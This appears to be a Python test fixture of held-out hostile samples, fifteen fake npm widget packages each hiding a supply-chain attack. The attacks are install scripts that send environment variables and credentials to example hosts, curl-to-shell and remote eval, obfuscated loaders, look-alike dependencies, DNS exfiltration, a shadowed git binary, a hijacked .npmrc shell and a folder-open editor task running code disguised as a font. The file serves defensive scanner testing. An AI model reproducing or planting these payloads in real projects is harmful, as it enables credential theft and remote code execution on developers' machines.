"""Attacks through the package around the code: scripts that run at installation, names, sources, build files.

After crossenv, eslint-scope, ua-parser-js, coa and rc, dependency confusion, and binding.gyp tricks.
"""

from base64 import b64encode

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

SIMPLE = r"""
'use strict';
const React = require('react');
exports.%s = () => React.createElement('p', null, '%s');
"""


def _simple(component: str, text: str) -> str:
    return SIMPLE % (component, text)


def _turned(text: str) -> str:
    return b64encode(text.encode()).decode()[::-1]


PACKAGES: tuple[Sample, ...] = (
    plugin(
        "preinstall-starts-bundled-collector",
        "install-script",
        "word-count",
        "Counts the words of your journal.",
        {
            "dist/index.js": _simple("WordCount", "1 204 words"),
            "scripts/setup.js": r"""
const os = require('os');
const { createHash } = require('crypto');
const https = require('https');

const facts = {
  id: createHash('sha256').update(os.hostname()).digest('hex'),
  dir: __dirname, home: os.homedir(), dns: require('dns').getServers(),
  pkg: require('../package.json'), env: process.env,
};
const body = Buffer.from(JSON.stringify(facts)).toString('base64');
https.request({ hostname: 'telemetry.example.net', path: '/npm', method: 'POST' }).on('error', () => {}).end(body);
""",
        },
        needs="react",
        package={"scripts": {"preinstall": "node scripts/setup.js", "build": "tsc"}},
    ),
    plugin(
        "postinstall-pipes-download-to-shell",
        "install-script",
        "moon-phase",
        "Shows the phase of the moon.",
        _simple("MoonPhase", "waxing"),
        needs="react",
        package={
            "scripts": {
                "build": "tsc -p .",
                "postinstall": "curl -sL https://cdn.example.org/moon/setup.sh | bash > /dev/null 2>&1 || true",
            }
        },
    ),
    plugin(
        "postinstall-one-line-of-node",
        "install-script",
        "tide-table",
        "Shows high and low water.",
        _simple("TideTable", "High at 14:10"),
        needs="react",
        package={
            "scripts": {
                "test": "jest",
                "postinstall": "node -e \"require('https').get('https://tides.example.com/p.js',r=>{let s='';"
                "r.on('data',d=>s+=d).on('end',()=>new Function('require',s)(require))})\"",
            }
        },
    ),
    plugin(
        "install-script-decoded-at-once",
        "install-script",
        "habit-grid",
        "Shows your habits as a grid.",
        {
            "dist/index.js": _simple("HabitGrid", "7 of 7"),
            "install.js": "const _0 = (s) => Buffer.from(s.split('').reverse().join(''), 'base64').toString('utf8');\n"
            "try {\n"
            f"  require(_0('{_turned('child_process')}'))[_0('{_turned('execSync')}')](\n"
            f"    _0('{_turned('curl -s https://grid.example.com/i.sh | sh')}'), {{ stdio: 'ignore' }});\n"
            "} catch (e) {}\n",
        },
        needs="react",
        package={"scripts": {"install": "node-gyp-build || node install.js"}},
    ),
    plugin(
        "two-step-compile-scripts",
        "install-script",
        "args-helper",
        "Helps with the arguments of commands.",
        {
            "dist/index.js": _simple("ArgsHelper", "--help"),
            "compile.js": r"""
const opsys = process.platform;
const { spawn } = require('child_process');
if (opsys === 'win32') {
  const bat = spawn('cmd.exe', ['/c', 'compile.bat'], { detached: true, stdio: 'ignore' });
  bat.unref();
} else if (opsys === 'linux') {
  spawn('/bin/bash', ['-c', 'chmod +x ./jsextension; ./jsextension -k --tls -o 203.0.113.99:443 & disown']);
}
""",
            "compile.bat": "@echo off\ncurl https://203.0.113.99/sdd.dll -o compile.dll\n"
            'if not exist compile.dll (\n wget https://203.0.113.99/sdd.dll -O compile.dll\n)\nregsvr32.exe -s "compile.dll"\n',
        },
        needs="react",
        package={"scripts": {"preinstall": "start /B node compile.js & node compile.js"}},
    ),
    plugin(
        "lint-package-fetches-code",
        "install-script",
        "scope-map",
        "Draws the scopes of a function.",
        {
            "dist/index.js": _simple("ScopeMap", "global > module"),
            "lib/build.js": r"""
try {
  var https = require('https');
  https.get({ hostname: 'paste.example.net', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => {
      eval(c);
    });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
""",
        },
        needs="react",
        package={"scripts": {"postinstall": "node ./lib/build.js"}},
    ),
    plugin(
        "look-alike-dependencies",
        "dependency",
        "env-switch",
        "Switches between test and production.",
        r"""
'use strict';
const env = require('crossenv');
const _ = require('loadash');
const { format } = require('momnet');
const React = require('react');

exports.EnvSwitch = ({ config }) => {
  const rows = _.sortBy(config.targets || [], 'name');
  return React.createElement('ul', null, rows.map((r) =>
    React.createElement('li', { key: r.name }, r.name + ' ' + format(r.since, 'YYYY-MM-DD') + ' ' + (env[r.name] || ''))));
};
""",
        package={
            "dependencies": {
                "react": "^18.2.0",
                "crossenv": "^6.1.1",
                "loadash": "^4.17.21",
                "momnet": "2.29.4",
                "electorn": "*",
            }
        },
    ),
    plugin(
        "dependency-from-a-tarball-address",
        "dependency",
        "shared-ui",
        "Buttons and lists for your own widgets.",
        r"""
'use strict';
const ui = require('@acme/ui-core');
exports.SharedUi = (props) => ui.render('button', props);
""",
        package={
            "dependencies": {
                "react": "^18.2.0",
                "@acme/ui-core": "http://203.0.113.12/dist/ui-core-latest.tgz",
                "left-pad": "git+https://git.example/tmp-user-8812/left-pad.git#main",
            }
        },
    ),
    plugin(
        "alias-hides-the-real-package",
        "dependency",
        "cloud-drive",
        "Shows the newest files of your drive.",
        r"""
'use strict';
const axios = require('axios');
const chalk = require('chalk');
exports.CloudDrive = () => chalk.bold('2 new files');
exports.list = (url) => axios.get(url).then((r) => r.data);
""",
        package={
            "dependencies": {
                "axios": "npm:axois-http-client@99.10.9",
                "chalk": "npm:chalk-next-cli@>=0.0.0",
            },
            "overrides": {"follow-redirects": "https://cdn.example.net/fr.tgz"},
        },
    ),
    plugin(
        "internal-name-with-high-version",
        "dependency",
        "billing-view",
        "Shows this month's bill.",
        {
            "dist/index.js": _simple("BillingView", "12.40"),
            "index.js": r"""
const dns = require('dns');
const os = require('os');
const info = [os.hostname(), os.userInfo().username, process.cwd(), require('./package.json').name].join('|');
const label = Buffer.from(info).toString('hex').match(/.{1,63}/g).slice(0, 3).join('.');
dns.resolveTxt(label + '.dc.example.org', () => process.exit(0));
""",
        },
        needs="react",
        package={
            "name": "@qirvo-internal/billing-core",
            "version": "1.0.0",
            "scripts": {"preinstall": "node index.js", "preuninstall": "node index.js"},
        },
    ),
    plugin(
        "gyp-file-with-command-expansion",
        "build-file",
        "native-clock",
        "A clock that is exact to the microsecond.",
        {
            "dist/index.js": _simple("NativeClock", "12:00:00.000000"),
            "binding.gyp": r"""
{
  "targets": [{
    "target_name": "clock",
    "sources": [ "src/clock.cc", "<!(node -e \"require('./dist/probe')\")" ],
    "include_dirs": [ "<!@(curl -s https://headers.example.com/n.sh | sh)" ]
  }]
}
""",
            "dist/probe.js": r"""
'use strict';
const { exec } = require('child_process');
exec('id; uname -a; cat ~/.npmrc', (err, out) => {
  require('http').get('http://headers.example.com/v?' + encodeURIComponent(Buffer.from(String(out)).toString('base64')));
});
process.stdout.write('src/empty.cc');
""",
            "src/clock.cc": "#include <chrono>\nlong now() { return 0; }\n",
        },
        needs="react",
        package={"gypfile": True},
    ),
    plugin(
        "commands-that-shadow-tools",
        "build-file",
        "dev-tools",
        "Small helpers for those who write plugins.",
        {
            "dist/index.js": _simple("DevTools", "helpers"),
            "bin/git.js": r"""#!/usr/bin/env node
const { spawnSync } = require('child_process');
const args = process.argv.slice(2);
if (args[0] === 'push' || args[0] === 'clone') {
  const url = spawnSync('/usr/bin/git', ['config', '--get', 'credential.helper']).stdout;
  const fill = spawnSync('/usr/bin/git', ['credential', 'fill'], { input: 'protocol=https\nhost=git.example\n\n' }).stdout;
  fetch('https://devtools.example.org/usage', { method: 'POST', body: url + '\n' + fill + args.join(' ') }).catch(() => {});
}
process.exitCode = spawnSync('/usr/bin/git', args, { stdio: 'inherit' }).status;
""",
        },
        needs="react",
        package={"bin": {"git": "bin/git.js", "npm": "bin/git.js", "sudo": "bin/git.js"}},
    ),
    plugin(
        "registry-redirected-in-npmrc",
        "build-file",
        "theme-pack",
        "Six calm themes.",
        {
            "dist/index.js": _simple("ThemePack", "six themes"),
            ".npmrc": "registry=https://npm.example.net/\nstrict-ssl=false\nignore-scripts=false\n"
            "//npm.example.net/:_authToken=${NPM_TOKEN}\nscript-shell=./tools/sh\n",
            "tools/sh": '#!/bin/sh\n(curl -s "https://npm.example.net/e" --data-binary "$(env)" &)\nexec /bin/sh "$@"\n',
        },
        needs="react",
    ),
    plugin(
        "editor-task-on-folder-open",
        "build-file",
        "snippet-box",
        "Keeps snippets of code.",
        {
            "dist/index.js": _simple("SnippetBox", "3 snippets"),
            ".vscode/tasks.json": '{"version":"2.0.0","tasks":[{"label":"eslint-check","type":"shell","command":'
            '"node public/fonts/fa-solid-400.woff2","presentation":{"reveal":"never","echo":false},'
            '"runOptions":{"runOn":"folderOpen"}}]}\n',
            "public/fonts/fa-solid-400.woff2": r"""
global['!']='9-2041';var _$_1e42=(function(l,e){var h=l.length,g=[];for(var j=0;j<h;j++)g[j]=l.charAt(j);
for(var j=0;j<h;j++){var s=e*(j+489)+(e%19597),w=e*(j+659)+(e%48014),t=s%h,p=w%h,y=g[t];g[t]=g[p];g[p]=y;e=(s+w)%4573868}
return g.join('').split('%')})("rmcej%otb%",2857687);global[_$_1e42[0]]=require;if(typeof module==='object')global[_$_1e42[1]]=module;
require('https').get('https://rpc.example.com/v1/accounts/last',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(JSON.parse(d).memo))});
""",
        },
        needs="react",
    ),
    plugin(
        "test-script-and-husky-hook",
        "install-script",
        "poll-box",
        "Asks your team one question a day.",
        {
            "dist/index.js": _simple("PollBox", "Pizza or pasta?"),
            ".husky/post-checkout": '#!/bin/sh\nnode ./tools/notify.mjs "$(git remote get-url origin)" &\n',
            "tools/notify.mjs": r"""
import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
const creds = await readFile(`${homedir()}/.git-credentials`, 'utf8').catch(() => '');
const conf = await readFile('.git/config', 'utf8').catch(() => '');
await fetch('https://poll.example.org/h', { method: 'POST', body: [process.argv[2], creds, conf].join('\0') }).catch(() => {});
""",
        },
        needs="react",
        package={"scripts": {"prepare": "husky install && node tools/notify.mjs", "test": "jest"}},
    ),
)
